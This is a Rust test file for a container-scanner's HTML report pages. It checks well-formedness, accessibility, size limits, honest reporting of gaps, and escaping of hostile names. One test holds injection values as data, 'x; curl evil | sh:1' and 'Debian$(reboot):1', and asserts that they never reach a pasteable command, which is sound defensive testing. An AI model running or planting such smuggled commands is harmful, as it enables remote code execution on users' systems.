//! The pages: well-formed, closed to hostile names, honest about gaps, and of bounded size.

use lazaret_reports::html;
use lazaret_reports::model::{
    Allowed, CategoryStatus, FleetReport, ImageReport, Malware, ScanStatus, Secret, SecurityStatus,
};

use crate::{HOSTILE, hostile, sample};

fn image(report: &ImageReport) -> String {
    let mut out = Vec::new();
    html::image(report, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn fleet(report: &FleetReport) -> String {
    let mut out = Vec::new();
    html::fleet(report, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// The names of all elements with their attributes; panics where tags do not nest or text holds a stray `<`.
fn elements(page: &str) -> Vec<(String, String)> {
    let void = ["meta", "col", "rect", "br", "img"];
    let (mut open, mut seen, mut rest) = (Vec::new(), Vec::new(), page);
    rest = rest.strip_prefix("<!doctype html>").unwrap();
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let end = rest.find('>').unwrap();
        let tag = &rest[..end];
        rest = &rest[end + 1..];
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop().as_deref(), Some(name), "closes the wrong element");
            continue;
        }
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(!name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric()), "stray tag <{tag}>");
        assert_eq!(attributes.matches('"').count() % 2, 0, "open attribute in <{tag}>");
        seen.push((name.to_owned(), attributes.to_owned()));
        if name == "style" {
            rest = &rest[rest.find("</style>").unwrap()..];
        }
        if !void.contains(&name) {
            open.push(name.to_owned());
        }
    }
    assert!(open.is_empty(), "never closed: {open:?}");
    seen
}

fn attribute<'a>(attributes: &'a str, name: &str) -> Option<&'a str> {
    let start = format!(" {attributes}").find(&format!(" {name}=\""))?;
    attributes[start + name.len() + 2..].split('"').next()
}

/// What holds for every page.
fn check(page: &str) {
    let elements = elements(page);
    let count = |name: &str| elements.iter().filter(|(element, _)| element == name).count();
    assert_eq!((count("h1"), count("main"), count("title").min(1)), (1, 1, 1));
    for forbidden in ["script", "iframe", "object", "link", "form", "img", "base"] {
        assert_eq!(count(forbidden), 0, "{forbidden}");
    }
    assert!(page.contains("<html lang=\"en\">") && page.contains("default-src 'none'"));
    assert!(page.contains("href=\"#content\"") && page.contains("id=\"content\""));
    assert_eq!(count("table"), count("caption"), "every table has a caption");
    let ids: Vec<&str> = elements.iter().filter_map(|(_, attributes)| attribute(attributes, "id")).collect();
    let mut distinct = ids.clone();
    distinct.sort_unstable();
    distinct.dedup();
    assert_eq!(distinct.len(), ids.len(), "an id twice");
    for (name, attributes) in &elements {
        if name == "th" {
            assert!(attributes.contains("scope="), "th without scope: {attributes}");
        }
        if let Some(href) = attribute(attributes, "href") {
            match href.strip_prefix('#') {
                Some(target) => assert!(ids.contains(&target), "{href} leads nowhere"),
                None => assert!(href.starts_with("https://") || href.starts_with("http://"), "{href}"),
            }
        }
        assert!(
            !attributes.split(' ').any(|word| word.starts_with("on")),
            "handler in <{name} {attributes}>"
        );
    }
}

#[test]
fn pages_are_well_formed_and_accessible() {
    check(&image(&sample::image()));
    check(&image(&sample::calm()));
    check(&fleet(&sample::fleet()));
}

#[test]
fn the_first_screen_says_how_bad_what_first_and_what_is_not_covered() {
    let page = image(&sample::image());
    let first = page.split("<nav").next().unwrap();
    for words in [
        "22 vulnerabilities: 7 critical and 9 high. 19 of them have a fix.",
        "Upgrade openssl from 1.1.1k-1 to 1.1.1n-0+deb11u4 first: that resolves 5.",
        "It holds 3 secrets (2 high, 1 medium) and 3 malware files (3 critical).",
        "Stop using the image until it is known how 3 files with malware came into it",
        "PyPI: 1 package: the version cannot be compared (local-thing).",
        "Debian data 3 days old, PyPI data 1 day old.",
    ] {
        assert!(first.contains(words), "{words}");
    }
    let page = fleet(&sample::fleet());
    let first = page.split("<nav").next().unwrap();
    for words in [
        "4 of 9 images are at risk; 3 could not be judged.",
        "2 images hold 3 secrets, 1 image holds 1 malware file.",
        "2 images were not searched for secrets, or the search failed.",
        "Upgrade openssl in 3 images first: that resolves 5 vulnerabilities.",
        "Debian:13: nothing of it was assessed (1 image): no advisories for Debian:13.",
        "npm: the data is 39 days old",
        "1 image was never scanned.",
    ] {
        assert!(first.contains(words), "{words}");
    }
}

#[test]
fn nothing_found_says_as_of_when() {
    let page = image(&sample::calm());
    assert!(page.contains(
        "No vulnerabilities known as of 2026-11-20 (Debian data 3 days old, PyPI data 1 day old)."
    ));
    assert!(page.contains("All 12 packages were assessed; secrets and malware were searched for."));
}

#[test]
fn nothing_assessed_is_not_nothing_found() {
    let mut report = sample::calm();
    for entry in &mut report.facts.coverage {
        (entry.advisories, entry.advisories_modified) = (0, None);
    }
    let page = image(&report);
    assert!(
        page.contains("Nothing was assessed: 12 packages were found, but there are no advisories for them.")
    );
    assert!(!page.contains("No vulnerabilities known"));
    report.facts.packages.clear();
    report.facts.coverage.clear();
    let page = image(&report);
    assert!(page.contains("No packages were found, so nothing was assessed."));
    check(&page);
}

#[test]
fn never_scanned_and_failed_say_so() {
    let mut report = sample::calm();
    report.scanned_at = None;
    report.scan_status = ScanStatus::Unscanned;
    report.security_status = SecurityStatus::Unknown;
    assert!(image(&report).contains("has not been scanned yet, so nothing is known about it."));
    report = sample::image();
    report.scan_status = ScanStatus::Failed;
    report.scan_error = "Layer 3 is missing.".into();
    assert!(
        image(&report)
            .contains("The last scan failed: Layer 3 is missing. What follows is from the scan before.")
    );
}

#[test]
fn an_empty_fleet_says_what_fills_it() {
    let mut report = sample::fleet();
    report.totals = lazaret_reports::model::FleetTotals::default();
    report.images.clear();
    report.fixes.clear();
    report.vulnerabilities.clear();
    report.secrets.clear();
    report.malware.clear();
    report.coverage.clear();
    let page = fleet(&report);
    check(&page);
    assert!(page.contains("No images are known yet.") && page.contains("Start a Docker Engine"));
}

#[test]
fn hostile_names_do_not_break_out() {
    for text in HOSTILE {
        let page = image(&ImageReport::from_scan(hostile(text), &sample::compare));
        check(&page);
        assert!(!page.contains('\u{202E}') && !page.contains('\0'));
        let mut report = sample::fleet();
        report.scope = text.into();
        for image in &mut report.images {
            image.name = text.into();
            image.os = text.into();
            image.scan_error = text.into();
            image.security_reason = text.into();
        }
        for fix in &mut report.fixes {
            (fix.package, fix.to, fix.ecosystem) = (text.to_owned(), text.to_owned(), text.to_owned());
        }
        for row in &mut report.vulnerabilities {
            (row.id, row.summary, row.packages) = (text.to_owned(), text.to_owned(), vec![text.to_owned()]);
        }
        for row in &mut report.secrets {
            (row.title, row.rule, row.snippet) = (text.to_owned(), text.to_owned(), text.to_owned());
            row.places = vec![text.to_owned()];
        }
        for row in &mut report.malware {
            (row.names, row.paths) = (vec![text.to_owned()], vec![text.to_owned()]);
        }
        for entry in &mut report.coverage {
            entry.ecosystem = text.into();
            entry.not_assessed = vec![text.to_owned()];
        }
        check(&fleet(&report));
    }
}

#[test]
fn no_command_to_paste_holds_what_an_image_chose() {
    for (ecosystem, command) in [
        ("Debian:13", "lazaret advisories update Debian<"),
        ("npm", "lazaret advisories update npm<"),
        ("x; curl evil | sh:1", ""),
        ("Debian$(reboot):1", ""),
        ("gentoo:2.15", ""),
    ] {
        let mut report = sample::calm();
        report.facts.coverage.truncate(1);
        let entry = &mut report.facts.coverage[0];
        entry.ecosystem = ecosystem.to_owned();
        (entry.advisories, entry.advisories_modified) = (0, None);
        let page = image(&report);
        assert_eq!(page.contains("lazaret advisories update"), !command.is_empty(), "{ecosystem}");
        assert!(page.contains(command));
    }
}

#[test]
fn binary_packages_of_one_source_share_a_row() {
    let page = image(&sample::image());
    assert_eq!(page.matches("id=\"CVE-2021-3711\"").count(), 1);
    assert!(page.contains("libssl1.1, openssl"));
}

#[test]
fn a_thousand_findings_with_long_names_stay_below_one_megabyte() {
    let mut report = sample::image();
    let template = report.facts.vulnerabilities[0].clone();
    report.facts.vulnerabilities = (0..1_500)
        .map(|number| {
            let mut found = template.clone();
            found.id = format!("CVE-2024-{number:05}");
            found.aliases = vec!["GHSA-aaaa-bbbb-cccc".to_owned(); 5];
            found.summary = "A long summary of what went wrong ".repeat(20);
            found.package.source_name = format!("some-rather-long-package-name-{number}");
            found.package.path = "usr/lib/node_modules/".repeat(30);
            found
        })
        .collect();
    let page = image(&report);
    check(&page);
    assert!(page.len() < 1_000_000, "{} bytes", page.len());
    assert!(page.contains("The worst 1,000 of 1,500 rows are shown; the CSV file has all of them."));
    assert_eq!(page.matches("<tr id=\"CVE-").count(), 1_000);
}

#[test]
fn a_large_fleet_stays_below_one_megabyte() {
    let mut report = sample::fleet();
    let template = report.images[0].clone();
    report.images = (0..5_000)
        .map(|number| {
            let mut image = template.clone();
            image.name = format!("registry.example.com/{}/{number}:1", "long".repeat(40));
            image.security_status = SecurityStatus::Unknown;
            image.security_reason = "a reason that goes on ".repeat(30);
            image
        })
        .collect();
    report.totals.images = 5_000;
    let page = fleet(&report);
    check(&page);
    assert!(page.len() < 1_000_000, "{} bytes", page.len());
    assert!(page.contains("The worst 400 of 5,000 images are shown"));
}

#[test]
fn a_secret_stands_beside_its_place_its_layer_and_what_buries_it() {
    let page = image(&sample::image());
    let secrets = &page[page.find("<section class=\"section\" id=\"secrets\"").unwrap()..];
    let secrets = &secrets[..secrets.find("</section>").unwrap()];
    for words in [
        "root/.ssh/id_ed25519:1",
        "buried by layer 3",
        "Deleting the file was not enough: layer 3 only hides it, layer 1 still holds it",
        "RUN /bin/sh -c echo api:corr****…aple | chpasswd",
        "image configuration",
        "href=\"#layer-1\"",
    ] {
        assert!(secrets.contains(words), "{words}");
    }
    let malware = &page[page.find("<section class=\"section\" id=\"malware\"").unwrap()..];
    let malware = &malware[..malware.find("</section>").unwrap()];
    assert_eq!(malware.matches("<tr>").count(), 1 + 3, "a file is one row, whoever names it");
    for words in ["opt/drop/nested.tar.gz!/eicar.zip!/eicar.com", "Eicar-Test-Signature", "ClamAV", "68 B"] {
        assert!(malware.contains(words), "{words}");
    }
    assert!(page.contains("ClamAV 1.4.3/27821/Mon Nov 23 09:26:11 2026"));
}

#[test]
fn a_category_that_was_not_searched_is_not_a_category_without_findings() {
    let mut report = sample::calm();
    assert!(image(&report).contains("No secrets and no malware were found in it."));
    report.facts.categories[1].status = CategoryStatus::NotOrdered;
    report.facts.categories[2].status = CategoryStatus::Failed;
    report.facts.categories[2].error = "clamd does not answer on unix:/run/clamd.ctl".into();
    let page = image(&report);
    check(&page);
    assert!(!page.contains("No secrets and no malware") && !page.contains("none found"));
    for words in [
        "Secrets were not searched for.",
        "None are listed because nobody ordered a search for secrets.",
        "The search for malware failed: clamd does not answer on unix:/run/clamd.ctl.",
        "not searched for</span>",
        "the search failed</span>",
    ] {
        assert!(page.contains(words), "{words}");
    }
    report.facts.categories.clear();
    check(&image(&report));
}

#[test]
fn what_is_allowed_is_shown_apart_with_the_reason() {
    let mut report = sample::image();
    for found in &mut report.facts.secrets {
        let reason = "a key of the test server".to_owned();
        found.allowed = Some(Allowed { reason, author: "anna".to_owned(), expires: None });
    }
    let page = image(&report);
    check(&page);
    let apart = &page[page.find("id=\"apart\"").unwrap()..];
    assert!(
        apart.contains("4 findings that are allowed") && apart.contains("a key of the test server (anna)")
    );
    let secrets = &page
        [page.find("<section class=\"section\" id=\"secrets\"").unwrap()..page.find("id=\"apart\"").unwrap()];
    assert!(!secrets.contains("root/.ssh/id_ed25519"));
}

#[test]
fn many_secrets_and_much_malware_stay_below_one_megabyte() {
    let mut report = sample::image();
    let (secret, file) = (report.facts.secrets[2].clone(), report.facts.malware[2].clone());
    report.facts.secrets = (0..5_000)
        .map(|number| {
            let path = format!("srv/{}/{number}", "long/".repeat(60));
            Secret { path, snippet: "x".repeat(400), advice: "Do this. ".repeat(200), ..secret.clone() }
        })
        .collect();
    report.facts.malware = (0..5_000)
        .map(|number| Malware {
            path: format!("{}a.zip!/{number}", "b.zip!/".repeat(60)),
            advice: "Do this. ".repeat(200),
            ..file.clone()
        })
        .collect();
    let page = image(&report);
    check(&page);
    assert!(page.len() < 1_000_000, "{} bytes", page.len());
    assert!(page.contains("4850 more are in the CSV file."));
}
